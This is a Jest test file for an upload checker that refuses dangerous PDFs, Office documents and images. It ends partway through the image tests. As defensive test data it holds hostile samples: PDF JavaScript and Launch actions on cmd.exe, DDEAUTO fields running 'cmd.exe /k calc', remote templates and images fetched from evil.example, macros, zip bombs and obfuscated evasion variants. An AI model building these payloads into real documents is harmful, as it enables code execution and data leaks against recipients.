import { createHash } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import sharp from 'sharp'
import { examine } from '../../src/files/examine'
import { filesVi } from '../../src/files/words.vi'
import { translate } from '../../src/i18n'
import type { Arrived } from '../../src/web/uploads'
import * as samples from './samples'

const { docx, odt, pdf, xlsx, zip, stream, objectStream, flate, relation } = samples

let folder: string
let count = 0
beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'phat-ngon-files-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function arrived(name: string, content: Buffer | string): Promise<Arrived> {
  const bytes = Buffer.from(content)
  const file = path.join(folder, String(count++))
  await writeFile(file, bytes)
  return { path: file, name, size: bytes.length, sha256: createHash('sha256').update(bytes).digest() }
}

const examined = async (name: string, bytes: Buffer | string) => examine([await arrived(name, bytes)])

/** The last word of the reason, or the name it is taken under. */
async function outcome(name: string, bytes: Buffer | string): Promise<string> {
  const { files, problem } = await examined(name, bytes)
  return problem ? problem.key.replace('files.problem.', '') : files[0]!.name
}

type Case = [what: string, name: string, make: () => Buffer | string | Promise<Buffer>]

const refuses = (reason: string, cases: Case[]) =>
  test.each(cases)(`%s: ${reason}`, async (_, name, make) => {
    expect(await outcome(name, await make())).toBe(reason)
  })

const ADDRESS = '<< /Type /Action /S /URI /URI (https://evil.example) >>'
const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>'

const TAKEN: [string, string, () => Buffer | Promise<Buffer>][] = [
  ['Thông cáo.pdf', 'application/pdf', () => pdf([])],
  ['a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', () => docx()],
  ['a.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', () => xlsx()],
  ['a.odt', 'application/vnd.oasis.opendocument.text', () => odt()],
  ['a.jpg', 'image/jpeg', samples.jpeg],
  ['a.jpeg', 'image/jpeg', samples.jpeg],
  ['a.png', 'image/png', () => samples.png()],
  ['a.webp', 'image/webp', samples.webp],
  ['động.webp', 'image/webp', samples.animatedWebp],
  ['a.mp3', 'audio/mpeg', samples.mp3],
  ['a.m4a', 'audio/mp4', samples.m4a],
  ['a.mp4', 'video/mp4', samples.mp4],
]

describe('what is taken', () => {
  test.each(TAKEN)('%s as %s', async (name, mediaType, make) => {
    const file = await arrived(name, await make())
    expect(await examine([file])).toEqual({ files: [{ ...file, mediaType }], problem: null })
  })

  test('a recording that carries the mark of a film', async () => {
    expect((await examined('ghi âm.m4a', samples.mp4())).files![0]!.mediaType).toBe('audio/mp4')
  })

  test('the name gets the ending of the content', async () => {
    expect(await outcome('Công văn 12.2026', pdf([]))).toBe('Công văn 12.2026.pdf')
    expect(await outcome('../../etc/passwd', pdf([]))).toBe('passwd.pdf')
  })

  test('all or none', async () => {
    const [good, bad, worse] = [
      await arrived('a.pdf', pdf([])),
      await arrived('b/<b>.gif', 'GIF89a'),
      await arrived('c', ''),
    ]
    expect((await examine([good, good])).files).toHaveLength(2)
    expect(await examine([good, bad, worse])).toEqual({
      files: null,
      problem: { key: 'files.problem.type', values: { name: 'b.gif', types: expect.any(String) as string } },
    })
    expect(await examine([])).toEqual({ files: [], problem: null })
  })

  test('a file that cannot be read at all is our failure, not the sender’s', async () => {
    const file = await arrived('a.pdf', pdf([]))
    await expect(examine([{ ...file, path: path.join(folder, 'none') }])).rejects.toThrow('ENOENT')
  })
})

test('every reason is a sentence with the name of the file', () => {
  const values = { name: 'a.pdf', types: 'PDF', megapixels: 50, side: 20_000 }
  for (const key of Object.keys(filesVi).filter((one) => one.startsWith('files.problem.')))
    for (const locale of ['vi', 'en'] as const) {
      expect(translate(locale, key, values)).toContain('“a.pdf”')
      expect(translate(locale, key, values)).not.toContain('undefined')
    }
})

describe('types', () => {
  refuses('empty', [['nothing', 'a.pdf', () => '']])
  refuses('type', [
    ['a GIF', 'a.gif', () => 'GIF89a\x01\0\x01\0'],
    ['a TIFF', 'a.tif', () => Buffer.from('49492a0008000000', 'hex')],
    ['a HEIC', 'a.heic', () => Buffer.from('0000001866747970686569630000000068656963', 'hex')],
    ['a QuickTime film', 'a.mov', samples.mov],
    ['a Windows program', 'a.exe', () => `MZ${'\0'.repeat(200)}`],
    ['a Linux program', 'a', () => `\x7fELF${'\0'.repeat(200)}`],
    ['HTML', 'a.html', () => '<!doctype html><script>alert(1)</script>'],
    ['SVG', 'a.svg', () => '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['text', 'a.txt', () => 'Kính gửi'],
    ['an archive', 'a.zip', () => zip([{ name: 'a.txt', bytes: 'a' }])],
    [
      'slides',
      'a.pptx',
      () =>
        samples.officeOf(
          'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
        ),
    ],
    [
      'something between PDF and HTML',
      'a',
      () => Buffer.concat([Buffer.from('<script></script>\n'), pdf([])]),
    ],
  ])
  refuses('disguised', [
    ['a PDF called .png', 'a.png', () => pdf([])],
    ['a PDF called .html', 'a.html', () => pdf([])],
    ['a picture called .pdf', 'a.pdf', () => samples.png()],
    ['a PNG called .jpg', 'a.jpg', () => samples.png()],
    ['a workbook called .docx', 'a.docx', () => xlsx()],
    ['sound called .pdf', 'a.pdf', samples.mp3],
    ['sound called .mp4', 'a.mp4', samples.mp3],
    ['HTML called .pdf', 'a.pdf', () => '<html><script>alert(1)</script>'],
    ['SVG called .png', 'a.png', () => '<svg onload="alert(1)"/>'],
    ['a program called .pdf', 'a.pdf', () => `MZ${'\0'.repeat(200)}`],
    ['any archive called .docx', 'a.docx', () => zip([{ name: 'a.txt', bytes: 'a' }])],
    ['HTML before a PDF', 'a.pdf', () => Buffer.concat([Buffer.from('<script></script>\n'), pdf([])])],
    [
      'both DOCX and ODT',
      'a.docx',
      () => docx({ name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text' }),
    ],
  ])
  refuses('old_office', [
    ['Word 97', 'a.doc', () => samples.ole()],
    ['Excel 97 called .xlsx', 'a.xlsx', () => samples.ole()],
  ])
  refuses('encrypted', [['Word with a password', 'a.docx', () => samples.ole('EncryptedPackage')]])
})

describe('PDF', () => {
  refuses('pdf_script', [
    ['script at opening', 'a.pdf', () => pdf([], { catalog: `/OpenAction ${SCRIPT}` })],
    ['script in an object', 'a.pdf', () => pdf([SCRIPT])],
    ['escaped', 'a.pdf', () => pdf(['<</S/J#61vaScript/#4aS(app.alert(1))>>'])],
    ['no space at all', 'a.pdf', () => pdf(['<</S/JavaScript/JS 7 0 R>>'])],
    ['in an array of arrays', 'a.pdf', () => pdf([`[[[${SCRIPT}]]]`])],
    ['a name as an object', 'a.pdf', () => pdf(['/JavaScript'])],
    ['in the trailer', 'a.pdf', () => pdf([], { trailer: `/Extra ${SCRIPT}` })],
    ['after a comment', 'a.pdf', () => pdf([`% (\n${SCRIPT}`])],
    ['after a string that is not closed', 'a.pdf', () => pdf(['(', SCRIPT])],
    ['after a dictionary that is not closed', 'a.pdf', () => pdf(['<< /A (b', SCRIPT])],
    ['after a bracket in a string', 'a.pdf', () => pdf([`<< /A (\\)>>) /B ${SCRIPT} >>`])],
    ['in a name tree', 'a.pdf', () => pdf([], { catalog: '/Names << /JavaScript 7 0 R >>' })],
    ['sending a form', 'a.pdf', () => pdf(['<< /S /SubmitForm /F (http://evil.example) >>'])],
    ['fetching data', 'a.pdf', () => pdf(['<< /S /ImportData /F (a.fdf) >>'])],
    ['opening a file inside another', 'a.pdf', () => pdf([objectStream('<< /S /GoToE /F (a) >>')])],
    ['an action without a click', 'a.pdf', () => pdf(['<< /Type /Page /AA << /O 7 0 R >> >>'])],
    ['an address at opening', 'a.pdf', () => pdf([], { catalog: `/OpenAction ${ADDRESS}` })],
    ['another file at opening', 'a.pdf', () => pdf([], { catalog: '/Open#41ction << /S /GoToR /F (a) >>' })],
    [
      'an address after a page',
      'a.pdf',
      () => pdf([], { catalog: `/OpenAction << /S /GoTo /Next ${ADDRESS} >>` }),
    ],
    ['in another object', 'a.pdf', () => pdf([ADDRESS], { catalog: '/OpenAction 1 0 R' })],
    ['its kind in another object', 'a.pdf', () => pdf(['<< /S 9 0 R >>'], { catalog: '/OpenAction 1 0 R' })],
    [
      'its number behind a comment',
      'a.pdf',
      () => pdf([`1 0 % \n obj ${ADDRESS}`], { catalog: '/OpenAction 77 0 R' }),
    ],
    [
      'in an object of a stream',
      'a.pdf',
      () => pdf([objectStream(ADDRESS)], { catalog: '/OpenAction 7 0 R' }),
    ],
    ['said in a stream', 'a.pdf', () => pdf([ADDRESS, objectStream('<</OpenAction 1 0 R>>')])],
    ['two openings', 'a.pdf', () => pdf([ADDRESS], { catalog: '/OpenAction 9 0 R /OpenAction 1 0 R' })],
    ['launching a program', 'a.pdf', () => pdf(['<< /S /Launch /F (cmd.exe) >>'])],
    ['rich media', 'a.pdf', () => pdf(['<< /Subtype /RichMedia >>'])],
    ['an XFA form', 'a.pdf', () => pdf([], { catalog: '/AcroForm << /XFA 7 0 R >>' })],
    ['in an object stream', 'a.pdf', () => pdf([objectStream(SCRIPT)])],
    ['in an escaped one', 'a.pdf', () => pdf([objectStream(SCRIPT, { type: '/T#79pe/#4fbjStm' })])],
    ['in one without a type', 'a.pdf', () => pdf([objectStream(SCRIPT, { type: '' })])],
    [
      'its filter in an array',
      'a.pdf',
      () => pdf([objectStream(SCRIPT, { filter: '/Filter[/FlateDecode]' })]),
    ],
    ['its filter in short', 'a.pdf', () => pdf([objectStream(SCRIPT, { filter: '/Filter /Fl' })])],
    ['its line ended by two', 'a.pdf', () => pdf([objectStream(SCRIPT, { line: '\r\n' })])],
    [
      'not compressed',
      'a.pdf',
      () => pdf([objectStream(SCRIPT, { filter: '', data: Buffer.from(`7 0 ${SCRIPT}`) })]),
    ],
    [
      'its length a reference',
      'a.pdf',
      () => pdf([objectStream(SCRIPT).replace(/\/Length \d+/, '/Length 9 0 R')]),
    ],
    [
      'a false end of the stream in it',
      'a.pdf',
      () =>
        pdf([
          objectStream('', {
            data: deflateSync(`7 0 (endstream) ${SCRIPT}`.replace('7 0', '7 12'), { level: 0 }),
          }),
        ]),
    ],
    ['at an offset in a string', 'a.pdf', () => pdf([objectStream('', { data: flate(`7 1 (${SCRIPT}`) })])],
    ['an object in the bytes of a stream', 'a.pdf', () => pdf([stream('', `5 0 obj ${SCRIPT} endobj`)])],
  ])

  refuses('embedded', [
    ['an attachment', 'a.pdf', () => pdf(['<< /Type /Filespec /F (a.exe) /EF << /F 2 0 R >> >>'])],
    ['its bytes', 'a.pdf', () => pdf([stream('/Type /EmbeddedFile', 'MZ')])],
    ['in the list of names', 'a.pdf', () => pdf([objectStream('<< /EmbeddedFiles 8 0 R >>')])],
  ])

  const harmless: [string, () => Buffer][] = [
    ['a link to click', () => pdf([`<< /Type /Annot /Subtype /Link /A ${ADDRESS} >>`])],
    [
      'a link in another object',
      () => pdf([ADDRESS, '<< /S /GoTo /D [3 0 R] >>'], { catalog: '/OpenAction 2 0 R' }),
    ],
    [
      'a link in an object of a stream',
      () => pdf([objectStream(` ${ADDRESS}`), '<< /S /GoTo /D (a) >>'], { catalog: '/OpenAction 2 0 R' }),
    ],
    ['a link to another file', () => pdf(['<< /Subtype /Link /A << /S /GoToR /F (a.pdf) >> >>'])],
    ['a page at opening', () => pdf([], { catalog: '/OpenAction [1 0 R /Fit] /URI << /Base (a) >>' })],
    ['a place at opening', () => pdf([], { catalog: '/OpenAction << /S /GoTo /D [1 0 R /Fit] >>' })],
    [
      'a place in another object, and bookmarks',
      () =>
        pdf([objectStream('<< /S /GoTo /D (a) >>'), '<< /Title (a) /Next 1 0 R >>'], {
          catalog: '/OpenAction 7 0 R',
        }),
    ],
    [
      'a digital signature',
      () =>
        pdf([
          '<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>',
          '<< /FT /Sig /V 1 0 R >>',
        ]),
    ],
    ['fonts that are called so', () => pdf(['<< /Font /AA /XObject /EF >>'])],
    ['names that only begin so', () => pdf(['<< /JSomething 1 /XFAx 2 /Launcher 3 >>'])],
    ['words in a string', () => pdf(['<< /URI (https://bao.vn/JavaScript \\) /JS (/Launch)) >>'])],
    ['words in a hex string', () => pdf(['<< /A <2f4a53> >>'])],
    ['words in a comment', () => pdf(['<< /A 1 % /JavaScript /JS\n >>'])],
    ['words in a stream', () => pdf([stream('', '(/JavaScript /JS /Launch) Tj')])],
    ['words in a compressed page', () => pdf([stream('/Filter /FlateDecode', flate(SCRIPT))])],
    ['words in a string of an object stream', () => pdf([objectStream('<< /T (/JavaScript /JS) >>')])],
    ['the bytes of a picture', () => pdf([stream('/Filter /DCTDecode', '/JS /JavaScript trailer obj')])],
    [
      'an object stream with a plain predictor',
      () =>
        pdf([objectStream('<< /A 1 >>', { filter: '/Filter /FlateDecode /DecodeParms << /Predictor 1 >>' })]),
    ],
    [
      'many object streams that are not compressed',
      () =>
        pdf(
          Array.from({ length: 20 }, () =>
            objectStream('', { filter: '', data: Buffer.from(`7 0 (${'x'.repeat(100_000)})`) }),
          ),
        ),
    ],
    ['the word Encrypt elsewhere', () => pdf(['<< /Encrypt 1 >>'])],
    ['spaces after the end', () => Buffer.concat([pdf([]), Buffer.alloc(3000, ' ')])],
  ]
  test.each(harmless)('%s: taken', async (_, make) => {
    expect(await outcome('a.pdf', make())).toBe('a.pdf')
  })

  refuses('encrypted', [
    ['a key in the trailer', 'a.pdf', () => pdf([], { trailer: '/Encrypt 5 0 R' })],
    [
      'a key in the stream of the table',
      'a.pdf',
      () => pdf([stream('/Type /XRef /Root 1 0 R /#45ncrypt 5 0 R', '')]),
    ],
  ])
  refuses('unchecked', [
    ['a filter we cannot undo', 'a.pdf', () => pdf([objectStream(SCRIPT, { filter: '/Filter /LZWDecode' })])],
    [
      'two filters',
      'a.pdf',
      () => pdf([objectStream(SCRIPT, { filter: '/Filter [/ASCII85Decode /FlateDecode]' })]),
    ],
    [
      'two filters by two keys',
      'a.pdf',
      () => pdf([objectStream(SCRIPT, { filter: '/Filter /FlateDecode /Filter /ASCII85Decode' })]),
    ],
    ['a filter in another object', 'a.pdf', () => pdf([objectStream(SCRIPT, { filter: '/Filter 8 0 R' })])],
    [
      'a predictor',
      'a.pdf',
      () =>
        pdf([objectStream(SCRIPT, { filter: '/Filter /FlateDecode /DecodeParms [<< /Predictor 12 >>]' })]),
    ],
    ['bytes that are not deflated', 'a.pdf', () => pdf([objectStream('', { data: Buffer.from('x') })])],
    [
      'a count in another object',
      'a.pdf',
      () => pdf([objectStream(SCRIPT, { type: '/Type /ObjStm /N 8 0 R' })]),
    ],
    [
      'more than can be looked into',
      'a.pdf',
      () => pdf([objectStream('', { data: deflateSync(Buffer.alloc(60_000_000)) })]),
    ],
    ['brackets without end', 'a.pdf', () => pdf(['['.repeat(100_000)])],
    ['strings without end', 'a.pdf', () => pdf(['obj('.repeat(500_000)])],
  ])
  refuses('damaged', [
    ['only a beginning', 'a.pdf', () => '%PDF-1.7\n'],
    ['cut in the middle', 'a.pdf', () => pdf([stream('', 'x'.repeat(4000))]).subarray(0, 3000)],
    ['no end', 'a.pdf', () => pdf([]).subarray(0, -6)],
    ['no catalogue', 'a.pdf', () => '%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF'],
  ])
})

describe('Office', () => {
  const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml'
  const chart = (workbook: Buffer) =>
    docx({ name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', bytes: workbook })

  refuses('macros', [
    ['vbaProject.bin', 'a.docx', () => docx({ name: 'word/vbaProject.bin', bytes: samples.ole() })],
    ['VBA anywhere', 'a.xlsx', () => xlsx({ name: 'x/y/VbaProject.BIN', bytes: 'x' })],
    ['a type with macros', 'a.docm', () => samples.officeOf(macro)],
    ['such a type called .docx', 'a.docx', () => samples.officeOf(macro)],
    ['such a type escaped', 'a.docx', () => samples.officeOf(macro.replace('macro', '&#x6d;&#97;cro'))],
    [
      'such a type in UTF-16',
      'a.docx',
      () =>
        zip([
          {
            ...samples.contentTypes(),
            bytes: Buffer.from(`\ufeff<Types><Override ContentType="${macro}"/></Types>`, 'utf16le'),
          },
        ]),
    ],
    ['macros of Excel 4', 'a.xlsx', () => xlsx({ name: 'xl/macrosheets/sheet1.xml', bytes: '<x/>' })],
    [
      'a relation to VBA',
      'a.docx',
      () =>
        docx({
          name: 'word/_rels/document.xml.rels',
          bytes: relation('vbaProject', 'other.bin', 'Internal'),
        }),
    ],
    [
      'macros in the workbook of a chart',
      'a.docx',
      () => chart(xlsx({ name: 'xl/vbaProject.bin', bytes: 'x' })),
    ],
    ['a Basic library', 'a.odt', () => odt({ name: 'Basic/Standard/Module1.xml', bytes: '<x/>' })],
    ['a Python script', 'a.odt', () => odt({ name: 'Scripts/python/a.py', bytes: 'x' })],
    [
      'a call of a macro',
      'a.odt',
      () =>
        odt({ name: 'content.xml', bytes: '<script:event-listener xlink:href="vnd.sun.star.script:a"/>' }),
    ],
    [
      'an element of script',
      'a.odt',
      () => odt({ name: 'content.xml', bytes: '<office:script script:language="ooo:Basic"/>' }),
    ],
  ])
  refuses('embedded', [
    ['an OLE object', 'a.docx', () => docx({ name: 'word/embeddings/oleObject1.bin', bytes: samples.ole() })],
    ['a program', 'a.docx', () => docx({ name: 'word/media/image1.png', bytes: 'MZ\x90\0' })],
    ['a script by its name', 'a.docx', () => docx({ name: 'word/a.vbs', bytes: 'x' })],
    ['ActiveX', 'a.docx', () => docx({ name: 'word/activeX/activeX1.xml', bytes: '<x/>' })],
    [
      'HTML to be read as text',
      'a.docx',
      () => docx({ name: 'word/_rels/document.xml.rels', bytes: relation('aFChunk', 'a.xml', 'Internal') }),
    ],
    ['an OLE object in ODT', 'a.odt', () => odt({ name: 'Object 1', bytes: samples.ole() })],
  ])
  refuses('remote', [
    [
      'a template from elsewhere',
      'a.docx',
      () =>
        docx({
          name: 'word/_rels/settings.xml.rels',
          bytes: relation('attachedTemplate', 'https://evil.example/a.dotm'),
        }),
    ],
    [
      'a template from a share',
      'a.docx',
      () =>
        docx({
          name: 'word/_rels/settings.xml.rels',
          bytes: relation('attachedTemplate', 'file://evil/a.dotm'),
        }),
    ],
    [
      'a template with a second target',
      'a.docx',
      () =>
        docx({
          name: 'word/_rels/settings.xml.rels',
          bytes: relation('attachedTemplate', 'x" a=\' Target=&quot;C:\\\\a&quot;\' Target="http://evil'),
        }),
    ],
    [
      'an object from elsewhere',
      'a.docx',
      () =>
        docx({
          name: 'word/_rels/document.xml.rels',
          bytes: relation('oleObject', 'mhtml:https://evil.example/a.html'),
        }),
    ],
  ])
  refuses('encrypted', [
    ['an encrypted entry', 'a.docx', () => docx({ name: 'word/a.xml', bytes: 'x', flags: 1 })],
    [
      'an encrypted ODT',
      'a.odt',
      () =>
        zip([
          { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', stored: true },
          {
            name: 'META-INF/manifest.xml',
            bytes: '<manifest:manifest><manifest:encryption-data/></manifest:manifest>',
          },
        ]),
    ],
  ])
  refuses('nested', [
    ['an archive', 'a.docx', () => docx({ name: 'word/media/a.png', bytes: zip([]) })],
    ['a RAR', 'a.docx', () => docx({ name: 'a.bin', bytes: 'Rar!\x1a\x07\0' })],
    [
      'an archive in the workbook of a chart',
      'a.docx',
      () => chart(xlsx({ name: 'xl/embeddings/a.xlsx', bytes: xlsx() })),
    ],
    ['not a workbook', 'a.docx', () => chart(zip([{ name: 'a', bytes: 'a' }]))],
  ])
  refuses('unpacked', [
    ['a bomb', 'a.docx', () => docx({ name: 'word/media/a.png', bytes: Buffer.alloc(30_000_000) })],
    ['more than 200 MB', 'a.docx', () => docx({ name: 'a', bytes: 'x', declaredSize: 201_000_000 })],
    [
      'too many entries',
      'a.docx',
      () =>
        docx(...Array.from({ length: 10_000 }, (_, i) => ({ name: `word/${i}`, bytes: '', stored: true }))),
    ],
    [
      'an entry inside another',
      'a.docx',
      () => {
        const inner = { name: 'b', bytes: 'b' }
        return zip([
          { name: 'a', bytes: zip([inner]), stored: true },
          { ...inner, at: 31 },
        ])
      },
    ],
  ])
  refuses('damaged', [
    [
      'more comes out than was said',
      'a.docx',
      () => docx({ name: 'a', bytes: Buffer.alloc(100_000), declaredSize: 10 }),
    ],
    ['cut off', 'a.docx', () => docx().subarray(0, -30)],
    ['a name twice', 'a.docx', () => docx({ name: 'Word/Document.xml', bytes: 'x' })],
    [
      'two names for one entry',
      'a.docx',
      () => docx({ name: 'word/a.xml', localName: 'word/b.xml', bytes: 'x' }),
    ],
    ['a way out', 'a.docx', () => docx({ name: '../../a', bytes: 'x' })],
  ])
  refuses('unchecked', [
    [
      'entities',
      'a.docx',
      () => zip([{ name: '[Content_Types].xml', bytes: '<!DOCTYPE a [<!ENTITY b "c">]><Types/>' }]),
    ],
    [
      'an encoding that hides words',
      'a.docx',
      () => zip([{ name: '[Content_Types].xml', bytes: '<?xml version="1.0" encoding="utf-7"?><Types/>' }]),
    ],
  ])

  test('the template on a drive of the author, links to click and the workbook of a chart are no danger', async () => {
    const template = relation('attachedTemplate', 'file:///C:\\Users\\An\\Mau%20cong%20van.dotx')
    expect(await outcome('a.docx', docx({ name: 'word/_rels/settings.xml.rels', bytes: template }))).toBe(
      'a.docx',
    )
    const own = relation('attachedTemplate', 'Mẫu (1).dotx')
    expect(await outcome('a.docx', docx({ name: 'word/_rels/settings.xml.rels', bytes: own }))).toBe('a.docx')
    const link = relation('hyperlink', 'https://chinhphu.vn/vbaProject/attachedTemplate')
    expect(await outcome('a.docx', docx({ name: 'word/_rels/document.xml.rels', bytes: link }))).toBe(
      'a.docx',
    )
    expect(await outcome('a.docx', chart(xlsx()))).toBe('a.docx')
  })
})

describe('what a document fetches when it is opened', () => {
  const related = (type: string, target: string, part = 'word/document.xml') =>
    docx(samples.relations(part, type, target))
  const linkedSheet = (mode: string, type: string, target: string) =>
    xlsx(samples.relations('xl/externalLinks/externalLink1.xml', type, target, mode))
  const { field, wordPart, odtText } = samples
  const word = (body: string) => docx(wordPart(body))

  refuses('remote', [
    ['a picture', 'a.docx', () => related('image', 'http://evil.example/a.png')],
    ['a picture on a share', 'a.docx', () => related('image', 'file://///evil.example/share/a.png')],
    [
      'addresses for a letter',
      'a.docx',
      () => related('mailMergeSource', 'file://///evil/x.odc', 'word/settings.xml'),
    ],
    ['a frame', 'a.docx', () => related('frame', 'a.htm', 'word/webSettings.xml')],
    ['a part of the document', 'a.docx', () => related('subDocument', 'file:///\\\\evil\\a.docx')],
    ['a film', 'a.docx', () => related('video', 'https://evil.example/a.mp4')],
    [
      'a link that is none',
      'a.docx',
      () => related('image" a=\' Type="x/hyperlink"\' b="', 'http://evil.example/a'),
    ],
    ['another workbook', 'a.xlsx', () => linkedSheet('External', 'externalLinkPath', 'http://evil/b.xlsx')],
    [
      'a program that Excel asks',
      'a.xlsx',
      () =>
        xlsx(
          samples.relations('xl/workbook.xml', 'externalLink', 'externalLinks/externalLink1.xml', 'Internal'),
          {
            name: 'xl/externalLinks/externalLink1.xml',
            bytes: '<ddeLink ddeService="cmd" ddeTopic="/c a"/>',
          },
        ),
    ],
    ['DDE', 'a.docx', () => word(field(' DDE excel "C:\\\\a.xlsx" r1c1 '))],
    ['DDE cut in pieces', 'a.docx', () => word(field(' D', 'DEA', 'UTO c:\\\\cmd.exe "/k calc"'))],
    ['DDE beside a field', 'a.docx', () => word(field('PAGE') + field('DDE') + field(' QUOTE 99 109'))],
    ['DDE escaped', 'a.docx', () => word(field('&#x44;&#68;E excel'))],
    ['DDE in one word', 'a.docx', () => word('<w:fldSimple w:instr=" DDEAUTO cmd &quot;/k&quot;"/>')],
    ['DDE by another prefix', 'a.docx', () => word('<ü:instrText>DDEAUTO cmd</ü:instrText>')],
    [
      'DDE cut by a field',
      'a.docx',
      () => word(`${field('PAGE D')}${field()}<w:instrText>DE cmd</w:instrText>`),
    ],
    ['DDE before a bracket', 'a.docx', () => word(field('DDEAUTO cmd "/k" />'))],
    ['DDE under another name', 'a.docx', () => docx(wordPart(field('DDEAUTO cmd'), 'x/y.XML'))],
    ['a picture by a field', 'a.docx', () => word(field('INCLUDEPICTURE "https://evil.example/a" \\d'))],
    ['cut in pieces', 'a.docx', () => word(field('INCLUDE', 'PICTURE "ht', 'tps://evil.example/a"'))],
    ['text on a share', 'a.docx', () => word(field('INCLUDETEXT \\\\\\\\evil\\\\a.docx'))],
    ['an address that is made', 'a.docx', () => word(field('INCLUDETEXT "') + field('QUOTE 104 116'))],
    ['an object by a field', 'a.docx', () => word(field('LINK Word.Document "http://evil.example/a"'))],
    [
      'a picture in ODT',
      'a.odt',
      () => odt(odtText('<draw:image xlink:href="https://evil.example/a.png" xlink:actuate="onLoad"/>')),
    ],
    ['on a share', 'a.odt', () => odt(odtText('<draw:image xlink:href="file://evil/a.png"/>'))],
    ['beside the document', 'a.odt', () => odt(odtText('<draw:object xlink:href="../b.ods"/>'))],
    ['a section', 'a.odt', () => odt(odtText('<text:section-source xlink:href="smb://evil/a.odt"/>'))],
    ['by another prefix', 'a.odt', () => odt(odtText('<ü:plugin l:href="&#104;ttp://evil.example"/>'))],
    [
      'a link that is none',
      'a.odt',
      () => odt(odtText('<draw:image a="&lt;text:a&gt;" b:href="http://evil"/>')),
    ],
    ['behind a bracket', 'a.odt', () => odt(odtText('<draw:image a="&#34;>" b:href="http://evil"/>'))],
    [
      'a picture of a style',
      'a.odt',
      () => odt({ name: 'styles.xml', bytes: '<style:background-image xlink:href="//evil/a.png"/>' }),
    ],
    [
      'a template from elsewhere',
      'a.odt',
      () => odt({ name: 'meta.xml', bytes: '<meta:template xlink:href="https://evil.example/a.ott"/>' }),
    ],
    ['a picture on a button', 'a.odt', () => odt(odtText('<form:button form:image-data="http://evil/a"/>'))],
    ['data of a program', 'a.odt', () => odt(odtText('<text:dde-connection-decl office:name="a"/>'))],
  ])

  refuses('unchecked', [
    [
      'text of Word where Excel has its own',
      'a.docx',
      () => docx(wordPart(field('DDEAUTO cmd'), 'xl/a.xml')),
    ],
    ['fields without end', 'a.docx', () => word(field('INCLUDETEXT a '.repeat(400_000)))],
    ['a comment in a field', 'a.docx', () => word('<w:instrText>DDE<!-- -->AUTO cmd</w:instrText>')],
    ['hidden text in a field', 'a.docx', () => word('<w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText>')],
    [
      'text of Word where it is not looked for',
      'a.docx',
      () =>
        zip([
          {
            ...samples.contentTypes(),
            bytes: `<Types><Override PartName="/word/a.png" b='PartName="/a.xml"' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
          },
        ]),
    ],
  ])

  const harmless: [string, string, () => Buffer][] = [
    ['a link to click', 'a.docx', () => related('hyperlink', 'https://chinhphu.vn/a')],
    ['a link to a share', 'a.docx', () => related('hyperlink', 'file:///\\\\may-chu\\chung\\a.docx')],
    [
      'a picture inside',
      'a.docx',
      () => docx(samples.relations('word/document.xml', 'image', 'a.png', 'Internal')),
    ],
    ['a number of a page', 'a.docx', () => word(field(' PAGE ', ' \\* MERGEFORMAT '))],
    ['a link as a field', 'a.docx', () => word(field(' HYPERLINK "https://moh.gov.vn/dde" '))],
    [
      'DDE in the text',
      'a.docx',
      () => word('<w:t>Dư lượng DDT và DDE trong đất, INCLUDEPICTURE "http://a"</w:t>'),
    ],
    ['a picture of the author', 'a.docx', () => word(field('INCLUDEPICTURE "C:\\\\Anh\\\\a.png" \\d'))],
    ['a picture of a letter', 'a.docx', () => word(field('INCLUDEPICTURE "cid:a@b" \\* MERGEFORMATINET'))],
    ['a link of Excel', 'a.xlsx', () => linkedSheet('External', 'hyperlink', 'https://chinhphu.vn')],
    ['a link in ODT', 'a.odt', () => odt(odtText('<text:a xlink:href="https://chinhphu.vn/">x</text:a>'))],
    [
      'a picture and an object in the package',
      'a.odt',
      () => odt(odtText('<draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>')),
    ],
    ['words about a link', 'a.odt', () => odt(odtText('<text:p>href="http://a" src="//b"</text:p>'))],
    [
      'a template on a disk',
      'a.odt',
      () => odt({ name: 'meta.xml', bytes: '<meta:template xlink:href="file:///C:/Mau/a.ott"/>' }),
    ],
  ]
  test.each(harmless)('%s in %s: taken', async (_, name, make) => {
    expect(await outcome(name, make())).toBe(name)
  })
})

describe('images', () => {
  test('one is decoded at a time', async () => {
    const image = await samples.png(200, 200)
    const images = sharp.prototype as { toBuffer: () => Promise<Buffer> }
    const decode = Reflect.get(images, 'toBuffer')
    let running = 0
    let most = 0
    const counted = jest.spyOn(images, 'toBuffer').mockImplementation(function (this: unknown) {
      most = Math.max(most, ++running)
      return decode.call(this as never).finally(() => running--)
    })
    const all = await Promise.all(Array.from({ length: 5 }, () => outcome('a.png', image)))
    counted.mockRestore()
    expect(all).toEqual(Array(5).fill('a.png'))
    expect(most).toBe(1)
  })

  test('one that fails lets the next in', async () => {
    const half = (await samples.png()).subarray(0, 400)
    const names = await Promise.all([outcome('a.png', half), outcome('b.png', await samples.png())])
    expect(names).toEqual(['damaged', 'b.png'])
  })

  refuses('image_size', [
    ['50,000 by 50,000 pixels', 'a.png', () => samples.pngClaiming(50_000, 50_000)],
    ['a long strip', 'a.png', () => samples.pngClaiming(20_001, 1)],
    ['more than 50 megapixels', 'a.png', () => samples.pngClaiming(7_100, 7_100)],
  ])
  const half = async (made: Promise<Buffer>) => (await made).subarray(0, (await made).length / 2)
  refuses('damaged', [
    ['half a JPEG', 'a.jpg', () => half(samples.jpeg())],
    ['half a PNG', 'a.png', () => half(samples.png())],
    ['half a WebP', 'a.webp', () => half(samples.webp())],
